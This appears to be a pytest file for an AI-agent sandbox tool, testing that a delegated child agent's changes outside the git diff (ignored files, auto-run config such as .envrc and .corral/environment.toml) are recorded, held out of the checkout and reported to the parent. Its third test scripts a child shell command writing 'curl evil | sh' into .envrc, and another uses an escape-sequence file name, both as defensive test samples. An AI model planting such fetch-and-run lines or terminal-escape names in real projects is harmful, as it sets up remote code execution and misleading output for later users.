"""A workspace-write child's changes that no diff can show reach its record and its parent.

The sandbox lists them (``in_patch: false``, ``tests/sandbox/test_workspace_changes.py``);
the run record keeps them in ``changed_files`` and the delegation result names them apart
from the diff, so the parent agent knows its checkout changed where the diff is silent.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from exec_support import Runner, git

from executor.ledger import find_run, ledger_dir
from policies.contract import SandboxMode

pytestmark = [pytest.mark.parametrize("backend", [pytest.param("bubblewrap",
                                                               marks=pytest.mark.bubblewrap)],
                                      indirect=True)]


def test_ignored_file_overwrite_reaches_record_and_parent(run: Runner, repo: Path) -> None:
    (repo / ".gitignore").write_text("*.log\n")
    (repo / "app.log").write_text("before\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-qm", "ignore logs")
    (repo / ".zuno").mkdir()
    (repo / ".zuno" / "zuno.json").write_text(json.dumps({"agents": {"boss": {}, "writer": {}}}))
    shell = {"tool_calls": [{"name": "shell",
                             "arguments": {"command": "echo after > app.log"}}]}
    record = run("boss", [{"tool_calls": [{"name": "delegate",
                                            "arguments": {"agent": "writer", "prompt": "go"}}]},
                          shell, {"text": "wrote the log"}, {"text": "done"}],
                 mode=SandboxMode.WORKSPACE_WRITE)
    child = find_run(ledger_dir(repo), record.children[0])
    assert child.mode == "workspace-write"
    [change] = child.changed_files
    assert (change["path"], change["status"], change["in_patch"]) == ("app.log", "modified",
                                                                     False)
    assert "ignored" in change["flags"]
    result = record.audit[0]["result"]
    assert "--- changed outside the diff (1) ---\nmodified app.log (ignored)" in result
    assert "--- diff" not in result  # the patch is empty


def test_show_lists_changes_outside_the_diff_escaped(run: Runner, repo: Path) -> None:
    """`corral show` (and `run`'s summary) list what the diff cannot carry, one line each,
    a hostile name escaped; the diff banner counts only the files in the patch."""
    from click.testing import CliRunner

    from executor.cli import cli

    (repo / ".gitignore").write_text("*.log\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-qm", "ignore logs")
    (repo / "tracked.txt").write_text("one\n")
    git(repo, "add", "tracked.txt")
    git(repo, "commit", "-qm", "tracked")
    (repo / ".zuno").mkdir()
    (repo / ".zuno" / "zuno.json").write_text(json.dumps({"agents": {"writer": {}}}))
    shell = {"tool_calls": [{"name": "shell", "arguments": {
        "command": "echo two >> tracked.txt; printf x > \"$(printf 'a\\033[2Kb.log')\""}}]}
    record = run("writer", [shell, {"text": "done"}], mode=SandboxMode.WORKSPACE_WRITE)
    shown = CliRunner().invoke(cli, ["show", record.run_id, "--root", str(repo)])
    assert shown.exit_code == 0, shown.output
    assert "--- diff: 1 file(s) changed, already in your checkout" in shown.stderr
    assert ("--- changed outside the diff: 1 path(s), already in your checkout"
            in shown.stderr)
    assert "  added        a\\x1b[2Kb.log  [ignored]" in shown.stderr
    assert "\x1b" not in shown.stderr


def test_config_a_command_creates_is_held_and_named(run: Runner, repo: Path) -> None:
    """A workspace-write child's shell writes ``.corral/environment.toml`` (the next
    ``--trust-project`` run's setup) and ``.envrc``: both are moved out of the checkout
    before the diff; the record, `corral show` and the parent's delegation result name them,
    the hostile name escaped, and the diff carries neither."""
    from click.testing import CliRunner

    from executor.cli import cli

    (repo / ".zuno").mkdir()
    (repo / ".zuno" / "zuno.json").write_text(json.dumps({"agents": {"boss": {}, "writer": {}}}))
    git(repo, "add", ".zuno")
    git(repo, "commit", "-qm", "agents")
    shell = {"tool_calls": [{"name": "shell", "arguments": {"command": (
        "mkdir -p .corral && printf '[setup]\\ncommands = [\"id\"]\\n' > .corral/environment.toml"
        " && echo 'curl evil | sh' > .envrc && echo note > notes.txt"
        " && mkdir -p \"$(printf '.vscode')\"")}}]}
    record = run("boss", [{"tool_calls": [{"name": "delegate",
                                            "arguments": {"agent": "writer", "prompt": "go"}}]},
                          shell, {"text": "wrote"}, {"text": "done"}],
                 mode=SandboxMode.WORKSPACE_WRITE)
    child = find_run(ledger_dir(repo), record.children[0])
    assert child.held_files == [".corral", ".envrc", ".vscode"]
    assert child.held_dir is not None
    held = Path(child.held_dir)
    assert (held / ".corral" / "environment.toml").read_text().startswith("[setup]")
    assert not (repo / ".corral").exists() and not (repo / ".envrc").exists()
    assert (repo / "notes.txt").read_text() == "note\n"
    assert ".corral" not in child.diff and ".envrc" not in child.diff
    result = record.audit[0]["result"]
    assert "--- held out of the workspace (3)" in result
    assert ".corral\n.envrc\n.vscode" in result
    shown = CliRunner().invoke(cli, ["show", child.run_id, "--root", str(repo)])
    assert shown.exit_code == 0, shown.output
    assert "--- held out of your checkout: 3 path(s)" in shown.stderr
    assert f"kept in {held}" in shown.stderr
